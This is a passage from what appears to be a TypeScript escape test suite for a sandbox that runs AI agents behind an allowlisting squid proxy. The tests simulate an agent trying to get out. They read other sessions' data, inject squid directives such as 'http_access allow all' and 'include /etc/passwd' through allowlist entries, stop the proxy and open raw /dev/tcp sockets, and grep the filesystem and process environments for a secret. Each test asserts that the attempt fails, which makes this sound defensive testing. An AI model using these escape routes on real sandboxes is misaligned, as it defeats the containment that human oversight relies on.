        expect(r.stdout).toContain('"mcpServers":{"x"');
      });
    });

    escapeCase("reads another session's workspace, volumes or paude's data", { control: 'ENOENT for each host path; the same listing shows its own workspace' }, async (prove) => {
      const r = await agent(s, s.a, `ls /var/lib/containers /var/lib/docker ${s.p.dataDir} ${join(s.p.dataDir, 'sessions')}; ls / | tr '\\n' ' '; ls ${s.p.ws}`);
      expect(r.stdout + r.stderr).not.toContain(s.b);
      expect(r.stdout).not.toMatch(/overlay|volumes/);
      await prove('not there; its own workspace is', () => {
        expect(r.stderr.match(/No such file or directory/g) ?? [], r.stderr).toHaveLength(4);
        expect(r.stdout).toMatch(/^paude\.json$/m);
      });
    });
  });

  describe('policy: injection and widening', () => {
    const injections: Array<[string, string]> = [
      ['a newline and a squid directive', 'x.test\nhttp_access allow all'],
      ['a space and a squid directive', 'x.test http_access allow all'],
      ['a comment character', 'x.test#'],
      ['an include directive', 'include /etc/passwd'],
      ['a wildcard for everything', '*'],
      ['a quote and a squid directive', 'x.test" all'],
    ];
    for (const [what, entry] of injections) {
      escapeCase(`injects squid configuration through an allowlist entry: ${what}`, { control: "a valid entry through the same command is accepted; the proxy still answers blocked.test with the policy's 403" }, async (prove) => {
        const r = await s.p.paude(['allow', entry, '--session', s.a]);
        expect(r.code, `ESCAPE: paude allow accepted ${JSON.stringify(entry)}`).not.toBe(0);
        expect(r.stderr.trim().split('\n')).toHaveLength(1);
        const after = await curl(s, s.a, `http://blocked.test:${s.forbidden.port}/`);
        untouched(s, 'an injected allowlist entry');
        await prove('the command works for a valid entry, and the policy still refuses', async () => {
          const ok = await s.p.paude(['allow', 'x.test', '--session', s.a]);
          expect(ok.code, ok.stderr).toBe(0);
          expectDenied(after, 'blocked.test after the injection');
        });
      });
    }

    escapeCase('injects through paude.json: the configuration is refused before anything starts', { control: "paude's validation error names the entry" }, async (prove) => {
      const file = join(s.p.env.PAUDE_CONFIG_DIR ?? '', 'paude.json');
      const original = await readFile(file, 'utf8');
      const config = JSON.parse(original) as { network: { allowlist: string[] } };
      await writeFile(file, JSON.stringify({ ...config, network: { ...config.network, allowlist: ['ok.test\nhttp_access allow all'] } }));
      try {
        const r = await s.p.paude(['--shell', '--', 'true']);
        expect(r.code).not.toBe(0);
        await prove('refused by validation', () => expect(r.stderr).toMatch(/network\.allowlist\[0\]/));
      } finally {
        await writeFile(file, original);
      }
    });

    escapeCase('the next session does not inherit what the agent wrote: refused hosts stay refused', { control: "the next session's proxy answers with the policy's 403 and X-Paude-Denied" }, async (prove) => {
      const r = await s.p.paude(['--shell', '--', 'sh', '-c', `curl -s -D - -o /dev/null --max-time 8 http://blocked.test:${s.forbidden.port}/`]);
      expect(r.code, r.stderr).toBe(0);
      const a = parseAnswer(r.stdout);
      expect(a.status, 'ESCAPE: the next session fetched a refused host').not.toBe('200');
      untouched(s, 'the next session');
      await prove("the policy's refusal", () => expectDenied(a, 'blocked.test in the next session'));
    });
  });

  describe('the proxy itself', () => {
    escapeCase('stops its own proxy (the marker the session writes at its end), then goes around it', { control: 'the proxy container is seen stopped before the tries; the direct socket gets ENETUNREACH' }, async (prove) => {
      await agent(s, s.a, ': > /run/paude-link/agent-exited');
      const proxy = engine.docker.getContainer(`${s.a}-proxy`);
      await until('the proxy to stop', async () => !(await proxy.inspect()).State.Running);
      const r = await agent(s, s.a, `curl -s -o /dev/null -w '%{http_code}\\n' --max-time 5 http://blocked.test:${s.forbidden.port}/; timeout 3 bash -c "exec 3<>/dev/tcp/${s.gateway}/${s.forbidden.port}" && echo connected`);
      expect(r.stdout).not.toMatch(/^200|connected/m);
      untouched(s, 'a stopped proxy');
      await prove('it had stopped, and there is no way around it', () => {
        expect(r.stdout).toMatch(/^000$/m);
        expect(r.stderr).toMatch(UNREACHABLE);
      });
    });
  });

  // Last: a failure here must not keep the engine's own afterAll (which removes what the suite
  // made) from running, so it is a nested suite's hook rather than one beside that afterAll.
  describe('controls', () => {
    afterAll(() => {
      console.log(report(`escape suite [${engine.name}]`));
    });
    it('every case that ran exercised its declared control (counted when the suite ends)', () => undefined);
  });
});

/** Sends one request straight to the session's proxy port and returns the answer's status and headers ('000': none). */
async function raw(s: Suite, session: string, method: string, target: string, hostHeader?: string): Promise<Answer> {
  const host = hostHeader ?? (method === 'CONNECT' ? target : new URL(target).host);
  const r = await agent(s, session, `exec 3<>/dev/tcp/127.0.0.1/3128; printf '${method} ${target} HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 8 sed -u '/^\\r\\?$/q' <&3`);
  return { ...parseAnswer(r.stdout, r.exitCode), out: r.stdout + r.stderr };
}

/**
 * A script that looks for a secret in every file and in every process's environment and command
 * line, and prints the matching files and then the count of matching process lines ("0" when
 * none). The secret is split in the script and joined only in bash's memory, and grep reads it
 * from a descriptor: its own command line and the script's do not contain it.
 */
function search(secret: string): string {
  const half = Math.floor(secret.length / 2);
  return [
    `a='${secret.slice(0, half)}'; b='${secret.slice(half)}'`,
    'grep -rIlF --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -f /dev/fd/3 / 3<<<"$a$b" 2>/dev/null',
    `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -cF -f /dev/fd/3 3<<<"$a$b"`,
  ].join('; ');
}
